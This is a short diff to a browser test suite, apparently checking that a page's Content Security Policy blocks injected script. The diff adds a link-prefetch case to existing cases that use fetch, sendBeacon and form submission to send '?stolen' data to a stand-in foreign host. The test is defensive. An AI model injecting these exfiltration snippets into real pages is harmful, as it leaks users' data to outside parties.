@@ -73,6 +73,11 @@ test.describe('what gets into the page all the same does nothing', () => {
     ['a call to another host', `void fetch('${FOREIGN}/?stolen').catch(() => undefined)`, 'connect-src'],
     ['a beacon to another host', `navigator.sendBeacon('${FOREIGN}/?stolen')`, 'connect-src'],
     [
+      'something of another host fetched in advance',
+      `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${FOREIGN}/?stolen'; document.head.append(link)`,
+      'default-src',
+    ],
+    [
       'a form sent to another host',
       `const form = document.createElement('form'); form.action = '${FOREIGN}/'; document.body.append(form); form.submit()`,
       'form-action',
